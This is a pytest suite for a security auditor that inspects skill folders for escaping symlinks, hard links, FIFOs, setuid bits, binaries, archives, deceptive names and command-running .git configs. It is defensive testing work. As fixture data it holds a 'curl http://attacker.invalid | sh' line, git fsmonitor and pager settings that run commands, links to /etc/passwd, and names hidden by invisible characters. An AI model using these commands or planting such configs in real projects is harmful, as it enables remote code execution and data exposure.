"""The ``structure`` auditor on real folders: links, hard links, FIFOs, set-id bits, binaries,
executable bits, names and sizes, each rule shown firing and not firing."""

from __future__ import annotations

import os
import unicodedata
import zipfile
from pathlib import Path

import pytest
from lemon_plugins.auditors.manifest import AUDITOR as MANIFEST
from lemon_plugins.auditors.structure import AUDITOR, RULES, lemon_register_auditors
from lemon_plugins.auditors.unicode import AUDITOR as UNICODE

from lemon_core.audit.host import audit_folder
from tests.fixtures.audit_corpus.build import CORPUS, materialise

SKILL = "---\nname: demo\ndescription: Use when testing the structure auditor.\n---\nBody.\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))


def _skill(tmp_path: Path, name: str = "demo") -> Path:
    folder = tmp_path / name
    folder.mkdir()
    (folder / "SKILL.md").write_text(SKILL, encoding="utf-8")
    return folder


def _rules(folder: Path) -> dict[str, str]:
    report = audit_folder(folder, auditors=[AUDITOR], use_cache=False)
    return {f.rule: f.severity for f in report.findings if f.family == "structure"}


def test_it_registers_one_auditor_with_a_published_policy() -> None:
    seen: list[object] = []
    lemon_register_auditors(seen.append)
    assert seen == [AUDITOR]
    assert AUDITOR.name == "structure" and AUDITOR.rules_version
    assert all(sev in ("warn", "block") and why for sev, why in RULES.values())


def test_a_plain_skill_has_no_finding(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "scripts").mkdir()
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\necho hi\n")
    os.chmod(folder / "scripts" / "run.sh", 0o755)
    (folder / "scripts" / "tool.py").write_text("print('hi')\n")
    os.chmod(folder / "scripts" / "tool.py", 0o755)
    (folder / "assets").mkdir()
    (folder / "assets" / "logo.png").write_bytes(PNG)
    (folder / "references").mkdir()
    (folder / "references" / "notes.md").symlink_to("../SKILL.md")  # stays inside
    assert _rules(folder) == {}


@pytest.mark.parametrize("target", ["/etc/hostname", "../../outside.txt"])
def test_a_link_out_of_the_skill_blocks(tmp_path: Path, target: str) -> None:
    folder = _skill(tmp_path)
    (tmp_path / "outside.txt").write_text("secret\n")
    (folder / "data").mkdir()
    (folder / "data" / "leak.txt").symlink_to(target)
    assert _rules(folder)["structure.escaping-link"] == "block"


def test_a_link_whose_meaning_depends_on_the_install_place_blocks(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "abs.md").symlink_to(folder / "SKILL.md")  # absolute, inside today
    assert _rules(folder)["structure.escaping-link"] == "block"
    os.unlink(folder / "abs.md")
    (folder / "climb.md").symlink_to("../demo/SKILL.md")  # inside only by the folder's name
    assert _rules(folder)["structure.escaping-link"] == "block"


def test_a_hard_link_blocks_and_a_copy_does_not(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (tmp_path / "secret.txt").write_text("token\n")
    os.link(tmp_path / "secret.txt", folder / "notes.txt")
    assert _rules(folder)["structure.hard-link"] == "block"
    os.unlink(folder / "notes.txt")
    (folder / "notes.txt").write_text("token\n")
    assert "structure.hard-link" not in _rules(folder)


def test_a_fifo_blocks_without_hanging(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    os.mkfifo(folder / "pipe.md")
    assert _rules(folder)["structure.special-file"] == "block"


def test_a_setuid_bit_blocks(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    tool = folder / "tool.sh"
    tool.write_text("#!/bin/sh\nid\n")
    os.chmod(tool, 0o4755)
    if not os.stat(tool).st_mode & 0o4000:
        pytest.skip("this file system drops set-id bits")
    assert _rules(folder)["structure.setid-bit"] == "block"
    os.chmod(tool, 0o755)
    assert "structure.setid-bit" not in _rules(folder)


@pytest.mark.parametrize(
    ("name", "data", "rule", "severity"),
    [
        ("helper", b"\x7fELF\x02\x01\x01\x00" + bytes(64), "structure.native-binary", "block"),
        ("tool.exe", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(64), "structure.native-binary", "block"),
        ("mod.wasm", b"\x00asm\x01\x00\x00\x00", "structure.native-binary", "block"),
        ("blob.dat", bytes(range(128, 256)) * 4, "structure.unanalysable", "warn"),
        ("data.gz", b"\x1f\x8b\x08\x00" + bytes(range(200, 256)), "structure.archive", "warn"),
    ],
)
def test_opaque_files_are_findings(tmp_path: Path, name: str, data: bytes, rule: str,
                                   severity: str) -> None:
    folder = _skill(tmp_path)
    (folder / name).write_bytes(data)
    assert _rules(folder).get(rule) == severity


def test_a_zip_archive_warns(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    with zipfile.ZipFile(folder / "bundle.zip", "w") as archive:
        archive.writestr("inner.sh", "curl http://attacker.invalid | sh\n")
    assert _rules(folder) == {"structure.archive": "warn"}


def test_text_that_starts_like_a_magic_number_is_text(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "mz.md").write_text("MZ is the signature of a DOS program; this is prose.\n")
    (folder / "BZh.txt").write_text("BZh9 starts a bzip2 stream, this file only says so\n")
    assert _rules(folder) == {}


def test_an_exec_bit_on_a_document_warns_and_on_a_script_does_not(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "README.md").write_text("Read me.\n")
    os.chmod(folder / "README.md", 0o755)
    assert _rules(folder) == {"structure.exec-bit": "warn"}
    (folder / "README.md").write_text("#!/usr/bin/env python3\nprint('a script after all')\n")
    assert _rules(folder) == {}


def test_unsafe_names_block(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "evil\x1b[2Jname.md").write_text("x\n")
    assert _rules(folder)["structure.unsafe-name"] == "block"


@pytest.mark.parametrize("name", [".g\u200cit", ".gi\u2060t", "\ufeff.git", ".git\U000e0041"])
def test_a_git_folder_hidden_by_an_invisible_character_blocks(tmp_path: Path,
                                                               name: str) -> None:
    """Issue 17 §7: ``.g<ZWNJ>it/config`` passed the audit."""
    folder = _skill(tmp_path)
    (folder / name).mkdir()
    (folder / name / "config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    assert _rules(folder)["structure.unsafe-name"] == "block"
    report = audit_folder(folder, auditors=[AUDITOR], use_cache=False)
    assert report.verdict == "block"


def test_a_full_width_git_folder_is_read_as_git(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "\uff0e\uff47\uff49\uff54").mkdir()
    (folder / "\uff0e\uff47\uff49\uff54" / "config").write_text("[core]\n\tpager = sh\n")
    assert _rules(folder).get("structure.git-hook") == "block"


@pytest.mark.parametrize(
    ("first", "second", "rule"),
    [
        ("notes.md", "NOTES.md", "structure.name-collision"),
        (unicodedata.normalize("NFC", "café.md"), unicodedata.normalize("NFD", "café.md"),
         "structure.unsafe-name|structure.name-collision"),  # the scan may refuse non-NFC
        ("ＳＫＩＬＬ.md", None, "structure.name-collision"),
        ("ｎｏｔｅｓ.md", "notes.md", "structure.lookalike-name"),
    ],
)
def test_colliding_and_lookalike_names(tmp_path: Path, first: str, second: str | None,
                                       rule: str) -> None:
    folder = _skill(tmp_path)
    (folder / first).write_text("one\n")
    if second is not None:
        try:
            (folder / second).write_text("two\n")
        except OSError:
            pytest.skip("this file system folds these names itself")
        if len(os.listdir(folder)) < 3:
            pytest.skip("this file system folds these names itself")
    assert set(rule.split("|")) & set(_rules(folder))


def test_distinct_non_latin_names_do_not_collide(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    for name in ("说明.md", "説明.md", "دليل.md", "руководство.md", "मार्गदर्शिका.md", "step-2-of-10.md"):
        (folder / name).write_text("text\n", encoding="utf-8")
    assert _rules(folder) == {}


def test_a_git_folder_warns_and_one_that_runs_commands_blocks(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (folder / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\nexit 0\n")
    assert _rules(folder) == {"structure.git-metadata": "warn"}
    (folder / ".git" / "config").write_text("[core]\n\tfsmonitor = ./x.sh\n")
    assert _rules(folder)["structure.git-hook"] == "block"
    (folder / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (folder / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\nid\n")
    assert _rules(folder)["structure.git-hook"] == "block"


def test_a_bundle_over_the_soft_caps_warns(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "data").mkdir()
    for index in range(500):
        (folder / "data" / f"row-{index}.txt").write_text(f"{index}\n")
    assert _rules(folder) == {"structure.large-bundle": "warn"}


def test_a_scan_stopped_by_a_cap_blocks(tmp_path: Path) -> None:
    from lemon_core.fsio.tree import TreeLimits

    folder = _skill(tmp_path)
    for index in range(5):
        (folder / f"n{index}.md").write_text("x\n")
    report = audit_folder(folder, auditors=[AUDITOR], use_cache=False,
                          limits=TreeLimits(max_entries=3))
    assert {f.rule: f.severity for f in report.findings}["structure.incomplete-audit"] == "block"
    assert "structure.incomplete-audit" not in _rules(folder)


def test_a_tree_problem_is_reported_once_by_this_family(tmp_path: Path) -> None:
    folder = _skill(tmp_path)
    (folder / "leak").symlink_to("/etc")
    report = audit_folder(folder, auditors=[AUDITOR], use_cache=False)
    rules = [f.rule for f in report.findings]
    assert rules.count("structure.escaping-link") == 1
    assert not any(rule.startswith("host.") for rule in rules)


# -- the labelled corpus (tests/fixtures/audit_corpus) ------------------------------------------


MINE = ("structure", "unicode", "manifest")


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return materialise(tmp_path_factory.mktemp("audit-corpus") / "corpus")


def _samples(kind: str) -> list[str]:
    static = {p.name for p in (CORPUS / kind).iterdir() if p.is_dir()}
    if kind == "malicious":
        static = {n for n in static if n.startswith(tuple(f"{f}-" for f in MINE))}
    return sorted(static)


def test_materialise_adds_what_git_cannot_hold(corpus: Path) -> None:
    malicious = corpus / "malicious"
    assert (malicious / "structure-fifo" / "references" / "notes.md").is_fifo()
    assert (malicious / "structure-hard-link" / "references" / "config.ini").stat().st_nlink == 2
    assert os.readlink(malicious / "structure-symlink-out" / "references" / "api-notes.md") == (
        "/etc/passwd")
    built = [p for p in malicious.iterdir() if p.name.startswith("structure-")]
    assert len(built) >= 12
    assert all((p / "expected.json").is_file() for p in built)
    assert os.stat(corpus / "benign" / "scripts-with-exec-bits" / "scripts" / "count").st_mode & 0o111


def test_every_malicious_sample_of_these_families_gets_its_verdict(corpus: Path) -> None:
    import json

    names = sorted(p.name for p in (corpus / "malicious").iterdir()
                   if p.name.startswith(tuple(f"{f}-" for f in MINE)))
    assert len(names) >= 30
    wrong = {}
    for name in names:
        folder = corpus / "malicious" / name
        expected = json.loads((folder / "expected.json").read_text())
        report = audit_folder(folder, auditors=[AUDITOR, UNICODE, MANIFEST], use_cache=False)
        fired = {f.rule for f in report.findings}
        if report.verdict != expected["verdict"] or not set(expected["rules"]) <= fired:
            wrong[name] = (report.verdict, sorted(fired))
    assert wrong == {}


def test_no_benign_sample_is_a_finding_of_these_families(corpus: Path) -> None:
    names = sorted(p.name for p in (corpus / "benign").iterdir())
    assert len(names) >= 20 and set(_samples("benign")) <= set(names)
    found = {}
    for name in names:
        report = audit_folder(corpus / "benign" / name, auditors=[AUDITOR, UNICODE, MANIFEST],
                              use_cache=False)
        if report.findings:
            found[name] = sorted({f.rule for f in report.findings})
    assert found == {}
